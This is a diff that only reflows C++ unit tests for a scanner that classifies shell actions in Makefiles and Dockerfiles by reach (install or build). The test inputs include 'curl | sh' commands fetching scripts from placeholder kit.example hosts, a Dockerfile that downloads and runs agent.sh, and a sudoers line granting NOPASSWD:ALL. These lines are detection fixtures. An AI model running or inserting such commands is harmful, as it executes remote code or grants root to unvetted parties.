@@ -25,7 +25,8 @@ std::map<std::string, core::Reach> ActsOf(std::string path, std::string text) {
 }
 
 TEST(BuildFiles, WhatMakeAsksAShellRunsWheneverItReadsTheFile) {
-  const auto acts = ActsOf("Makefile", "VERSION := $(shell curl -fsSL https://v.kit.example/v.sh | sh)\nall:\n\techo $(VERSION)\n");
+  const auto acts =
+      ActsOf("Makefile", "VERSION := $(shell curl -fsSL https://v.kit.example/v.sh | sh)\nall:\n\techo $(VERSION)\n");
   ASSERT_TRUE(acts.contains("SH-001"));
   EXPECT_EQ(acts.at("SH-001"), core::Reach::kInstall);
   EXPECT_TRUE(ActsOf("Makefile", "VERSION := $(shell git describe --tags)\nall:\n\techo $(VERSION)\n").empty());
@@ -46,20 +47,25 @@ TEST(BuildFiles, RecipesAreScripts) {
   ASSERT_TRUE(acts.contains("SH-008"));
   EXPECT_EQ(acts.at("SH-008"), core::Reach::kInstall);
   // What a maintainer's own target fetches, the package's users do not.
-  const auto tools = ActsOf("Makefile", "all:\n\ttrue\ntools:\n\tcurl -sSfL https://tools.kit.example/install.sh | sh\n");
+  const auto tools =
+      ActsOf("Makefile", "all:\n\ttrue\ntools:\n\tcurl -sSfL https://tools.kit.example/install.sh | sh\n");
   ASSERT_TRUE(tools.contains("SH-001"));
   EXPECT_EQ(tools.at("SH-001"), core::Reach::kBuild);
 }
 
 TEST(BuildFiles, LayersOfAContainerAreOneScript) {
-  EXPECT_TRUE(ActsOf("Dockerfile", "FROM x\nADD https://x.kit.example/agent.sh /tmp/a.sh\nRUN sh /tmp/a.sh\n").contains("SH-001"));
-  EXPECT_FALSE(ActsOf("Dockerfile", "FROM x\nADD https://x.kit.example/words.txt /srv/words.txt\nRUN sh /srv/a.sh\n").contains("SH-001"));
+  EXPECT_TRUE(ActsOf("Dockerfile", "FROM x\nADD https://x.kit.example/agent.sh /tmp/a.sh\nRUN sh /tmp/a.sh\n")
+                  .contains("SH-001"));
+  EXPECT_FALSE(ActsOf("Dockerfile", "FROM x\nADD https://x.kit.example/words.txt /srv/words.txt\nRUN sh /srv/a.sh\n")
+                   .contains("SH-001"));
   // In its own container a user may have every right.
   const auto acts = ActsOf("Dockerfile", "FROM x\nRUN echo me ALL=\\(root\\) NOPASSWD:ALL > /etc/sudoers.d/me\n");
   EXPECT_TRUE(!acts.contains("SH-008") || acts.at("SH-008") == core::Reach::kBuild);
 }
 
-TEST(BuildFiles, OtherFilesAreNone) { EXPECT_TRUE(ActsOf("notes.txt", "\tcurl https://x.kit.example/a | sh\n").empty()); }
+TEST(BuildFiles, OtherFilesAreNone) {
+  EXPECT_TRUE(ActsOf("notes.txt", "\tcurl https://x.kit.example/a | sh\n").empty());
+}
 
 }  // namespace
 }  // namespace interlock::scan
